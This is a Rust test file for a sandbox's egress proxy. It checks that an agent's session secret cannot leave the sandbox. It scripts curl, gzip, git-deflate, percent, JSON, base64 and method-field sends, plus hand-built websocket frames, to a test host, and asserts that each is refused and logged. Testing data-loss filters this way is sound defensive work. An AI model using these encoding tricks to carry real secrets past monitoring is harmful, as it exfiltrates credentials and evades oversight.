//! The agent tries to smuggle its bottle secret out past the egress proxy's DLP, from inside a
//! real bottle with the tools its image has (curl, gzip, git, od, base64, openssl, bash). Each way
//! is tried twice against the test upstream: with a clean value of the same length, which must
//! arrive (so the upstream's record is known to see that request), then with the secret, which
//! must be refused and must not arrive.

use super::*;

/// A value shaped like the secret (same length, same characters) that no rule matches.
const CLEAN: &str = "harmless-plain-value-0000000";

/// The allowlisted host without a route that the body cases go to (the test upstream).
pub const DLP_HOST: &str = "dlp.test";

/// Ways to send `$P` to `$U` from the agent (POSIX sh; `send` is curl printing the status).
const WAYS: &[(&str, &str)] = &[
    ("plain", r#"send --data-binary "$P" "$U""#),
    (
        "gzip",
        r#"printf %s "$P" | gzip -c | send -H 'Content-Encoding: gzip' --data-binary @- "$U""#,
    ),
    // A zlib stream written by git (a loose object holds `blob <len>\0<content>`).
    (
        "deflate",
        r#"d=$(mktemp -d); git init -q "$d"; o=$(printf %s "$P" | git -C "$d" hash-object -w --stdin);
           send -H 'Content-Encoding: deflate' --data-binary @"$d/.git/objects/$(echo "$o" | cut -c1-2)/$(echo "$o" | cut -c3-)" "$U""#,
    ),
    (
        "percent",
        r#"send --data-binary "v=$(hex "$P" | sed 's/../%&/g')" "$U""#,
    ),
    (
        "json",
        r#"send -H 'Content-Type: application/json' --data-binary "{\"v\":\"$(hex "$P" | sed 's/../\\u00&/g')\"}" "$U""#,
    ),
    // 45 bytes first, so the value's base64 straddles the 76-column line break.
    (
        "mime-base64",
        r#"{ head -c 45 /dev/zero | tr '\0' a; printf %s "$P"; } | base64 -w 76 | send --data-binary @- "$U""#,
    ),
    ("method", r#"send -X "$P" "$U""#),
];

/// Tries every way with the clean value and the secret; asserts what the agent got, what the
/// upstream recorded and what the proxy logged.
pub fn assert_secret_never_leaves(bottle: &TestBottle, identity: &str, upstream: &str) {
    let mut script = String::from(
        "hex() { printf %s \"$1\" | od -An -v -tx1 | tr -d ' \\n'; }\n\
         send() { curl -sS --max-time 20 -o /dev/null -w '%{http_code}' \"$@\"; }\n",
    );
    for (way, command) in WAYS {
        let function = way.replace('-', "_");
        script.push_str(&format!("way_{function}() {{ {command}; }}\n"));
        for variant in ["clean", "secret"] {
            let value = if variant == "clean" {
                CLEAN
            } else {
                "$SESSION_SECRET"
            };
            script.push_str(&format!(
                "P={value}; U=https://{DLP_HOST}/dlp/{way}/{variant}; echo \"sent {way} {variant} $(way_{function} 2>/dev/null)\"\n"
            ));
        }
    }
    let out = text(&bottle.exec_in_agent(identity, &script));
    let record = container_stdout(bottle, upstream);
    let arrived = arrived_paths(&record);
    for (way, _) in WAYS {
        assert!(
            out.contains(&format!("sent {way} clean 200")),
            "the clean {way} request passes:\n{out}"
        );
        assert!(
            arrived.contains(&format!("/dlp/{way}/clean")),
            "the upstream's record shows the clean {way} request:\n{record}"
        );
        assert!(
            out.contains(&format!("sent {way} secret 403")),
            "the secret sent as {way} is refused:\n{out}"
        );
        assert!(
            !arrived.contains(&format!("/dlp/{way}/secret")),
            "the secret sent as {way} reached the upstream:\n{record}"
        );
    }
    assert!(
        record.contains(&format!("\"method\": \"{CLEAN}\"")),
        "a method arrives as the agent wrote it:\n{record}"
    );
    assert!(!record.contains(PROMPTED_SECRET), "{record}");
    let logs = text(&bottle.bottle(&["logs", identity, "egress-proxy"]));
    for (way, _) in WAYS {
        assert!(
            logs.lines()
                .any(|l| l.contains(&format!("/dlp/{way}/secret")) && l.contains("deny")),
            "no refusal of the secret sent as {way} in the proxy's log:\n{logs}"
        );
    }
    assert!(!logs.contains(PROMPTED_SECRET), "the secret in the log");
}

/// The paths of the requests the upstream received whole.
fn arrived_paths(record: &str) -> Vec<String> {
    record
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v.get("upgrade").is_none())
        .filter_map(|v| v.get("path")?.as_str().map(str::to_owned))
        .collect()
}

/// A websocket to the route host, opened with `openssl s_client -proxy` (curl in the image has no
/// websocket support) and frames written by a bash function: a clean frame, then one holding the
/// secret, then one more. The clean frame arrives and comes back; the secret closes the socket
/// before it reaches the upstream, so neither it nor the frame after it arrive. The upstream echoes
/// the `Authorization` it saw (the route's injected token) in its 101 answer: the agent sees it cut.
pub fn assert_websocket_frames_scanned(bottle: &TestBottle, identity: &str, upstream: &str) {
    let script = format!(
        r#"proxy=${{HTTPS_PROXY#*://}}; proxy=${{proxy%/}}
frame() {{
  local p=$1 i c m=(55 170 15 240)
  printf '\x81'; printf "\\x$(printf %02x $((128 + ${{#p}})))"; printf '\x37\xaa\x0f\xf0'
  for ((i = 0; i < ${{#p}}; i++)); do
    printf -v c %d "'${{p:i:1}}"; printf "\\x$(printf %02x $((c ^ m[i % 4])))"
  done
}}
{{ printf 'GET /allowed/ws HTTP/1.1\r\nHost: upstream.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n'
  sleep 2; frame "ws-clean-{CLEAN}"; sleep 2; frame "ws-secret-$SESSION_SECRET"; sleep 2; frame ws-after; sleep 2
}} | timeout 30 openssl s_client -quiet -proxy "$proxy" -connect upstream.test:443 -servername upstream.test 2>/dev/null
echo "rc=$?""#
    );
    let out = text(&bottle.bottle(&["exec", identity, "bash", "-c", &script]));
    assert!(out.contains(" 101 "), "the upgrade is answered: {out}");
    assert!(
        out.to_ascii_lowercase().contains(&format!(
            "x-seen-authorization: bearer {}",
            "*".repeat(ROUTE_TOKEN.len())
        )),
        "the upstream saw the token, the agent its cut echo: {out}"
    );
    assert!(!out.contains(ROUTE_TOKEN), "the token echoed back: {out}");
    assert!(
        out.contains(&format!("ws-clean-{CLEAN}")),
        "the clean frame's echo comes back: {out}"
    );
    let record = container_stdout(bottle, upstream);
    let frames: Vec<String> = record
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|v| v.get("frame")?.as_str().map(str::to_owned))
        .collect();
    assert!(
        frames.contains(&format!("ws-clean-{CLEAN}")),
        "the upstream's record shows the clean frame: {record}"
    );
    assert!(
        !frames
            .iter()
            .any(|f| f.starts_with("ws-secret") || f == "ws-after"),
        "a frame after the secret reached the upstream: {frames:?}"
    );
    assert!(!record.contains(PROMPTED_SECRET), "{record}");
    // The relay's audit line is written when it ends, which may be just after the agent's end.
    let closed = |logs: &str| {
        logs.lines()
            .any(|l| l.contains("/allowed/ws") && l.contains("websocket closed: DLP"))
    };
    let mut logs = String::new();
    for _ in 0..50 {
        logs = text(&bottle.bottle(&["logs", identity, "egress-proxy"]));
        if closed(&logs) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    assert!(
        closed(&logs),
        "the proxy logs closing the websocket:\n{logs}"
    );
}
